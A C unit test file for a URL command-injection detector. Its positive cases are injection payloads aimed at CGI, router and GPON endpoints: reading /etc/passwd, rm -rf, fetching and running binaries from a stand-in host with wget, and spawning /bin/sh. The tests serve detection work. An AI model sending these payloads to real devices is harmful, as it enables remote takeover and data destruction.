#include "collectors/url.h"
#include "tests/suite.h"

#include <check.h>
#include <string.h>

START_TEST(commands_for_a_shell_are_seen) {
    static const char *const urls[] = {
        "/cgi-bin/ping.cgi?ip=127.0.0.1;cat%20/etc/passwd",
        "/cgi-bin/luci/;stok=/locale?form=country&country=$(id>`wget+x`)",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws",
        "/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/x+-O+/tmp/x",
        "/GponForm/diag_Form?dest_host=`busybox%20wget%20http://192.0.2.1/g`",
        "/x?host=1.2.3.4%7C%20/bin/sh%20-i",
        "/x?a=b&&reboot",
        "/x?a=1%0Aid",
        "/x?a=;wget${IFS}http://192.0.2.1/",
    };
    for (unsigned i = 0; i < sizeof urls / sizeof urls[0]; i++)
        ck_assert_msg(url_holds_command(urls[i]), "%s", urls[i]);
}
END_TEST

START_TEST(what_programs_ask_for_is_none) {
    static const char *const urls[] = {
        "/",
        "",
        "/index.html?id=5&cat=3&sh=1",
        "/app;jsessionid=12AB?cd=1;id=7;sleep=5",
        "/search?q=cats+and+dogs;+bash.org",
        "/a|b/c.png",
        "/api/v1/echo?ping=1&&rmx=2",
        "/generate_204;wgets",
        "/%",
        "/%4",
        "/x?a=%00%00;",
        "/x?url=http://192.0.2.1/wget+sh",
    };
    for (unsigned i = 0; i < sizeof urls / sizeof urls[0]; i++)
        ck_assert_msg(!url_holds_command(urls[i]), "%s", urls[i]);
}
END_TEST

START_TEST(a_long_one_is_cut) {
    char url[5000];
    memset(url, 'a', sizeof url);
    strcpy(url + sizeof url - 8, ";id");
    ck_assert(!url_holds_command(url));
    memset(url, ';', sizeof url - 1);
    url[sizeof url - 1] = '\0';
    ck_assert(!url_holds_command(url));
    memcpy(url + 1000, ";id;", 4);
    ck_assert(url_holds_command(url));
}
END_TEST

int main(void) {
    TCase *all = tcase_create("url");
    tcase_add_test(all, commands_for_a_shell_are_seen);
    tcase_add_test(all, what_programs_ask_for_is_none);
    tcase_add_test(all, a_long_one_is_cut);
    Suite *suite = suite_create("url");
    suite_add_tcase(suite, all);
    return suite_run(suite);
}
